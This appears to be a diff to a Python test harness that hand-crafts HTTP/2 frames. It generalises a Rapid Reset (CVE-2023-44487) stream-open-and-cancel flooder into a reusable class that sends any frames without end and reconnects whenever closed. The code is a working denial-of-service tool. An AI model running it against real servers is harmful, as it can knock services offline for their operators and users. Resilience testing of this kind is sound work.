@@ -1,10 +1,12 @@
-"""A peer with a certificate that opens HTTP/2 streams and resets them, as fast as the wire takes it (CVE-2023-44487).
+"""Peers with a certificate that send HTTP/2 frames as fast as the wire takes them: streams that are opened and reset
+(CVE-2023-44487), or whatever else.
 Frames by hand: no client library sends them so. Source: RFC 9113, section 4.1; RFC 7541, section 6."""
 
 import contextlib
 import itertools
 import os
 import pathlib
+import select
 import socket
 import ssl
 import struct
@@ -12,7 +14,7 @@ import threading
 
 from .client import address, find_method
 
-DATA, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE = 0, 1, 3, 4, 8
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
 END_STREAM, END_HEADERS = 1, 4
 CANCEL = 8
 STREAMS_AT_ONCE = 2000
@@ -56,17 +58,67 @@ def connect(target, identity="gateway"):
     return connection
 
 
-class Storm:
-    """A peer who comes again when its connection is closed; reads what comes, as one that wants to stay would."""
+class Flood:
+    """A peer who sends `first` and then the same frames without end, and comes again when its connection is closed; reads what
+    comes, as one that wants to stay would."""
 
-    def __init__(self, target, method, message=None, identity="gateway"):
+    def __init__(self, target, first=b"", again=b"", identity="gateway"):
         self.target, self.identity = target, identity
-        self.path = find_method(target, method)[0]
-        self.message = message
+        self.first, self.again = first, again
         self.sent = 0
         self.closed = 0
         self._stop = threading.Event()
         self._thread = threading.Thread(target=self._run, daemon=True)
+
+    def _chunks(self):
+        yield self.first
+        yield from itertools.repeat(self.again * STREAMS_AT_ONCE)
+
+    def _run(self):
+        while not self._stop.is_set():
+            with contextlib.suppress(OSError, ValueError):
+                with connect(self.target, self.identity) as connection:
+                    self._flood(connection)
+            self.closed += not self._stop.is_set()
+
+    def _flood(self, connection):
+        """One thread for both directions: a session of OpenSSL's is no two threads' at once."""
+        connection.setblocking(False)
+        for chunk in self._chunks():
+            while chunk and not self._stop.is_set():
+                chunk = chunk[self._send(connection, chunk):]
+            if self._stop.is_set():
+                break
+            self.sent += STREAMS_AT_ONCE
+
+    @staticmethod
+    def _send(connection, chunk):
+        """How much of it went."""
+        with contextlib.suppress(ssl.SSLWantReadError):
+            if not connection.recv(1 << 16):
+                raise ConnectionResetError
+        try:
+            return connection.send(chunk[:1 << 16])
+        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
+            select.select([connection], [connection], [], 1)
+            return 0
+
+    def __enter__(self):
+        self._thread.start()
+        return self
+
+    def __exit__(self, *_):
+        self._stop.set()
+        self._thread.join(20)
+
+
+class Storm(Flood):
+    """Opens streams and resets them."""
+
+    def __init__(self, target, method, message=None, identity="gateway"):
+        super().__init__(target, identity=identity)
+        self.path = find_method(target, method)[0]
+        self.message = message
 
     def _streams(self):
         for number in itertools.count(1, 2):
@@ -78,36 +130,7 @@ class Storm:
             parts.append(frame(RST_STREAM, 0, number, struct.pack(">I", CANCEL)))
             yield b"".join(parts)
 
-    def _run(self):
-        while not self._stop.is_set():
-            with contextlib.suppress(OSError):
-                with connect(self.target, self.identity) as connection:
-                    self._flood(connection)
-            self.closed += not self._stop.is_set()
-
-    def _flood(self, connection):
-        reader = threading.Thread(target=self._read, args=(connection,), daemon=True)
-        reader.start()
+    def _chunks(self):
         streams = self._streams()
-        try:
-            while not self._stop.is_set():
-                connection.sendall(b"".join(itertools.islice(streams, STREAMS_AT_ONCE)))
-                self.sent += STREAMS_AT_ONCE
-        finally:
-            with contextlib.suppress(OSError):
-                connection.shutdown(socket.SHUT_RDWR)
-            reader.join(10)
-
-    @staticmethod
-    def _read(connection):
-        with contextlib.suppress(OSError, ValueError):
-            while connection.recv(1 << 16):
-                pass
-
-    def __enter__(self):
-        self._thread.start()
-        return self
-
-    def __exit__(self, *_):
-        self._stop.set()
-        self._thread.join(20)
+        while True:
+            yield b"".join(itertools.islice(streams, STREAMS_AT_ONCE))
